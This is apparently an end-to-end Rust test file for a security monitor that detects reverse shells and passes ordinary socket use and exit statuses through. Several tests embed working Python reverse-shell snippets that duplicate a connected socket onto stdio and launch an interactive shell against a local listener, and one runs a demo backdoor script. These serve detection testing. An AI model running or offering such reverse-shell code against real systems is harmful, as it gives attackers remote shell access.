//! The seed scenario and its neighbours: reverse shells caught, honest socket use left alone,
//! the command's exit status passed through.

use serde_json::Value;

use crate::harness::*;

/// Asserts the one VGL-0001 finding a reverse shell to 127.0.0.1:`port` must produce.
fn assert_reverse_shell_finding(run: &Run, port: u16) -> Value {
    assert_eq!(
        run.code, EXIT_FINDING,
        "a reverse shell must fail the build"
    );
    let found = by_signature(&run.findings, "VGL-0001");
    assert_eq!(
        found.len(),
        1,
        "one incident, one finding: {:#?}",
        run.findings
    );
    let f = found[0].clone();
    assert_eq!(f["signature"]["name"], "Standard input/output over socket");
    assert_eq!(f["signature"]["severity"], "high");
    assert_eq!(f["signature"]["mitre"], serde_json::json!(["T1059.004"]));
    assert_eq!(f["severity"], "high");
    let remote = format!("127.0.0.1:{port}");
    assert_eq!(f["evidence"]["remote"], remote.as_str());
    assert_eq!(f["event"]["kind"], "dup");
    assert_eq!(f["event"]["new_fd"], 0);
    assert_eq!(f["event"]["result"], 0);
    assert_eq!(f["event"]["target"]["type"], "socket");
    assert_eq!(f["event"]["target"]["family"], "inet");
    assert_eq!(f["event"]["target"]["remote"]["ip"], "127.0.0.1");
    assert_eq!(f["event"]["target"]["remote"]["port"], port);
    assert!(f["process"]["pid"].as_u64().unwrap() > 0);
    assert!(f["process"]["ppid"].as_u64().unwrap() > 0);
    assert_eq!(f["event"]["pid"], f["process"]["pid"]);
    // The attack ran in the test's own mount namespace.
    use std::os::unix::fs::MetadataExt;
    let mnt_ns = std::fs::metadata("/proc/self/ns/mnt").unwrap().ino();
    assert_eq!(f["event"]["mnt_ns"], mnt_ns);
    let ts = f["timestamp"].as_str().unwrap();
    let when = humantime_parse(ts);
    let age = std::time::SystemTime::now().duration_since(when).unwrap();
    assert!(age.as_secs() < 600, "timestamp {ts} is not from this run");
    assert!(run.stderr.contains("vigil: FINDING [HIGH] VGL-0001"));
    assert!(run.stderr.contains(&format!("remote={remote}")));
    f
}

fn humantime_parse(ts: &str) -> std::time::SystemTime {
    // RFC 3339 with nanoseconds and Z: parse by hand to avoid another dev-dependency.
    assert!(ts.ends_with('Z') && ts.len() >= 20, "timestamp {ts}");
    let out = std::process::Command::new("date")
        .args(["-d", ts, "+%s"])
        .output()
        .unwrap();
    let secs: u64 = String::from_utf8_lossy(&out.stdout).trim().parse().unwrap();
    std::time::UNIX_EPOCH + std::time::Duration::from_secs(secs)
}

#[test]
fn seed_reverse_shell_is_caught() {
    if !privileged() {
        return;
    }
    let listener = Listener::start("echo vigil-e2e-$((6*7)); exit\n");
    let port = listener.port.to_string();
    let backdoor = demo("backdoor.py");
    let run = vigil_run("seed", &[], &["python3", &backdoor, "127.0.0.1", &port]);
    let transcript = listener.transcript();
    assert!(
        transcript.contains("vigil-e2e-42"),
        "the shell really ran over the socket: {transcript:?}"
    );
    let f = assert_reverse_shell_finding(&run, port.parse().unwrap());
    assert_eq!(f["process"]["comm"], "python3");
    assert!(f["process"]["exe"].as_str().unwrap().contains("python3"));
    let argv: Vec<&str> = f["process"]["argv"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a.as_str().unwrap())
        .collect();
    assert_eq!(&argv[1..], [backdoor.as_str(), "127.0.0.1", port.as_str()]);
    assert_eq!(f["evidence"]["old_fd"], "3");
    assert_eq!(f["evidence"]["new_fd"], "0");
}

/// The blog post's two-script app, exactly as a user would run it.
#[test]
fn seed_two_script_app_fails_the_build() {
    if !privileged() {
        return;
    }
    let app = demo("app.py");
    let run = vigil_run("seed-app", &[], &["python3", &app, "--attack"]);
    assert_eq!(run.code, EXIT_FINDING);
    assert!(run.stdout.contains("Hello from the demo app"));
    let found = by_signature(&run.findings, "VGL-0001");
    assert_eq!(found.len(), 1);
    let f = found[0];
    assert!(f["process"]["argv"].to_string().contains("backdoor.py"));
    let ancestry = f["process"]["ancestry"].as_array().unwrap();
    assert!(
        ancestry[0]["argv"].to_string().contains("app.py"),
        "the parent is the app: {ancestry:?}"
    );
}

#[test]
fn honest_app_passes_with_its_own_status() {
    if !privileged() {
        return;
    }
    let app = demo("app.py");
    let run = vigil_run("benign-app", &[], &["python3", &app]);
    assert_eq!(run.code, 0, "an honest build passes");
    assert!(run.findings.is_empty(), "{:#?}", run.findings);
    assert!(run.stderr.contains("vigil: status armed"));
    assert!(run.stdout.contains("Demo app done."));

    let run = vigil_run("exit-status", &[], &["sh", "-c", "exit 7"]);
    assert_eq!(run.code, 7, "the command's own status passes through");
    let run = vigil_run("signal-status", &[], &["sh", "-c", "kill -KILL $$"]);
    assert_eq!(
        run.code,
        128 + 9,
        "death by signal is reported as a shell would"
    );
    let run = vigil_run("not-found", &[], &["/nonexistent/vigil-e2e"]);
    assert_eq!(run.code, 127);
}

/// Pipes, files and Unix sockets onto stdio, and ordinary TCP clients, are not attacks.
#[test]
fn ordinary_dups_and_sockets_are_quiet() {
    if !privileged() {
        return;
    }
    let listener = Listener::start("hello\n");
    let script = format!(
        r#"
import os, socket, subprocess
a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
saved = os.dup(1)
os.dup2(a.fileno(), 1)
os.dup2(saved, 1)
r, w = os.pipe()
os.dup2(r, 0)
f = open("/dev/null", "w")
os.dup2(f.fileno(), 2)
c = socket.create_connection(("127.0.0.1", {port}))
c.recv(6)
c.close()
subprocess.run(["sh", "-c", "echo through-a-pipe | cat > /dev/null; ls / | wc -l >/dev/null"], check=True)
"#,
        port = listener.port
    );
    let run = vigil_run("quiet", &[], &["python3", "-c", &script]);
    listener.transcript();
    assert_eq!(run.code, 0);
    assert!(run.findings.is_empty(), "{:#?}", run.findings);
}

/// The socket is created and connected in the parent, inherited across fork, and dup'd onto
/// stdio only in the child: the case the first TRC-1 missed.
#[test]
fn socket_inherited_across_fork_is_caught() {
    if !privileged() {
        return;
    }
    let listener = Listener::start("echo inherited-$((40+2)); exit\n");
    let script = format!(
        r#"
import os, socket
s = socket.create_connection(("127.0.0.1", {port}))
pid = os.fork()
if pid == 0:
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
    os.execv("/bin/sh", ["sh", "-i"])
os.waitpid(pid, 0)
"#,
        port = listener.port
    );
    let port = listener.port;
    let run = vigil_run("inherited", &[], &["python3", "-c", &script]);
    assert!(listener.transcript().contains("inherited-42"));
    let f = assert_reverse_shell_finding(&run, port);
    let parent = &f["process"]["ancestry"][0];
    assert_eq!(parent["comm"], "python3");
    assert_ne!(
        parent["pid"], f["process"]["pid"],
        "caught in the forked child"
    );
}

/// subprocess.Popen(stdin=sock, ...) dups in the child after fork, via Python's own helper.
#[test]
fn popen_with_socket_stdio_is_caught() {
    if !privileged() {
        return;
    }
    let listener = Listener::start("exit\n");
    let script = format!(
        r#"
import socket, subprocess
s = socket.create_connection(("127.0.0.1", {port}))
subprocess.call(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)
"#,
        port = listener.port
    );
    let port = listener.port;
    let run = vigil_run("popen", &[], &["python3", "-c", &script]);
    listener.transcript();
    assert_reverse_shell_finding(&run, port);
}
